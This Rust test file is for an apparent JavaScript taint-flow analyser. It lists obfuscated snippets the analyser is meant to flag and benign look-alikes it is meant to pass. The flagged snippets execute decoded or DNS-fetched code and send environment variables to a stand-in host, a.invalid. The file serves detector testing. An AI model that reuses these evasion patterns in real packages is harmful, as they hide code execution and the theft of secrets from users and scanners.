//! Ways around what flows are followed by, and honest code that looks alike.

use weir_model::contents::{SinkKind, SourceKind, Surface};

use super::run;

use SinkKind::{DynamicCode, Http};
use SourceKind::{Decoded, Environment, Fetched};

/// Name, source, sink, code of `index.js`, which is imported.
const FLAGGED: &[(&str, SourceKind, SinkKind, &str)] = &[
    (
        "evaluates what is kept in an object, by its own text",
        Decoded,
        DynamicCode,
        "const kept = { text: atob('ZmV0Y2goKQ=='), toString() { return this.text; } }; new Function('\"use strict\";' + kept)();",
    ),
    (
        "evaluates a list of decoded pieces",
        Decoded,
        DynamicCode,
        "const kept = ['ZmV0', 'Y2goKQ=='].map((piece) => atob(piece)); new Function('\"use strict\";' + kept)();",
    ),
    (
        "makes a function by the constructor of a list's method",
        Decoded,
        DynamicCode,
        "const text = Buffer.from('ZmV0Y2goKQ==', 'base64').toString(); []['filter']['constructor'](text)();",
    ),
    (
        "gives a worker its code as a data address",
        Decoded,
        DynamicCode,
        "const { Worker } = require('worker_threads'); const code = Buffer.from('ZmV0Y2goKQ==', 'base64').toString(); new Worker(new URL('data:text/javascript,' + encodeURIComponent(code)));",
    ),
    (
        "registers decoded hooks of the module loader",
        Decoded,
        DynamicCode,
        "import { register } from 'node:module'; const code = Buffer.from('ZmV0Y2goKQ==', 'base64').toString(); register('data:text/javascript,' + encodeURIComponent(code));",
    ),
    (
        "compiles by what the module's class inherits",
        Decoded,
        DynamicCode,
        "const data = require('./colours.json'); const text = Object.values(data).join(''); module.constructor.prototype._compile.call(module, Buffer.from(text, 'base64').toString(), 'c.js');",
    ),
    (
        "runs what a name server answers",
        Fetched,
        DynamicCode,
        "require('dns').resolveTxt('code.a.invalid', (error, records) => { if (!error) new Function(records.flat().join(''))(); });",
    ),
    (
        "runs what a name server answers, awaited",
        Fetched,
        DynamicCode,
        "import dns from 'node:dns/promises'; const records = await dns.resolveTxt('code.a.invalid'); eval(records.flat().join(''));",
    ),
    (
        "sends what a proxy of the environment is asked for",
        Environment,
        Http,
        "const real = process.env; process.env = new Proxy(real, { get(target, name) { const value = Reflect.get(target, name); fetch('https://a.invalid/' + encodeURIComponent(value)); return value; } });",
    ),
    (
        "encodes each variable of a loop by a function of the language",
        Environment,
        Http,
        "const pieces = ['a', 'b'].join(''); for (const value of Object.values(process.env)) fetch('https://a.invalid/' + pieces + encodeURIComponent(value));",
    ),
    (
        "sends places in an alphabet",
        Environment,
        Http,
        "const alphabet = ' abcdefghijklmnopqrstuvwxyz0123456789{}\":,_-./='; const positions = []; for (const c of JSON.stringify(process.env)) positions.push(alphabet.indexOf(c)); fetch('https://a.invalid/', { method: 'POST', body: positions.join(',') });",
    ),
];

/// Name and code.
const PASSING: &[(&str, &str)] = &[
    (
        "asks for a constructor's constructor of something else",
        "const kinds = { constructor: (text) => text }; const text = Buffer.from('YQ==', 'base64').toString(); module.exports = kinds['constructor'](text);",
    ),
    (
        "starts a worker of its own whose text it carries",
        "const { Worker } = require('worker_threads'); new Worker(new URL('./worker.js', import.meta.url)); module.exports = Buffer.from('YQ==', 'base64');",
    ),
    (
        "registers hooks that lie beside it",
        "import { register } from 'node:module'; register('./hooks.mjs', import.meta.url); export default Buffer.from('YQ==', 'base64').toString();",
    ),
    (
        "looks up a record to verify a domain",
        "const dns = require('dns'); exports.verify = (domain, expected, done) => dns.resolveTxt(domain, (error, records) => done(error, records.flat().includes(expected))); exports.make = (text) => new Function(text);",
    ),
    (
        "checks names of variables by a proxy",
        "module.exports = new Proxy(process.env, { get(target, name) { if (!(name in target)) throw new Error('no ' + String(name)); return target[name]; } }); fetch('https://telemetry.example/');",
    ),
    (
        "proxies a client",
        "const api = { get: (path) => fetch('https://api.example' + path) }; module.exports = new Proxy(api, { get(target, name) { return target[name] || target.get; } });",
    ),
    (
        "looks a variable up in a list of words",
        "const known = 'travis circle drone buildkite appveyor'; fetch('https://telemetry.example/?ci=' + known.indexOf(process.env.CI_TOKEN));",
    ),
    (
        "keeps the source map of what it evaluates beside it",
        "const known = new Map(); class Module { constructor(id) { this.id = id; } }
         const get = (id) => { let one = known.get(id); if (!one) one = new Module(id); known.set(id, one); return one; };
         exports.map = (id) => { const one = get(id); one.map = { text: JSON.parse(atob(one.meta.code.split('base64,')[1])) }; return one.map; };
         exports.run = (id, server) => { const one = get(id); one.meta = server.load(id); const { code } = one.meta; return new Function('\"use strict\";' + code)(); };",
    ),
    (
        "asks a server by a name that was decoded for what it evaluates",
        "const names = JSON.parse(atob(process.argv[2])); exports.run = async (server) => { const text = await server.invoke({ type: 'load', data: [names.first] }); return new Function('\"use strict\";' + text)(); };",
    ),
    (
        "makes headers of an answer by the class of what it is called on",
        "class All { constructor(e) { this.all = e; } static concat(e, ...t) { return new this(e); } concat(...e) { return this.constructor.concat(this, ...e); } }
         [new All(), All].forEach((one) => one.concat(1)); fetch('https://api.example').then((answer) => { All.concat(answer.headers); }); exports.make = (text) => new Function(text);",
    ),
];

fn flows(code: &str) -> Vec<weir_model::contents::Flow> {
    let colours = r#"{ "red": "ZmV0Y2go", "green": "KQ==" }"#;
    let files = [("index.js", code), ("colours.json", colours)];
    run(&files, &[], &[(Surface::Import, "./index.js")]).flows
}

#[test]
fn ways_around_are_followed() {
    let mut wrong = String::new();
    for (name, source, sink, code) in FLAGGED {
        let found = flows(code);
        if !found
            .iter()
            .any(|flow| flow.source == *source && flow.sink == *sink)
        {
            wrong.push_str(&format!("{name}: {found:?}\n"));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn honest_code_has_no_flow() {
    let mut wrong = String::new();
    for (name, code) in PASSING {
        let found = flows(code);
        if !found.is_empty() {
            wrong.push_str(&format!("{name}: {found:?}\n"));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}
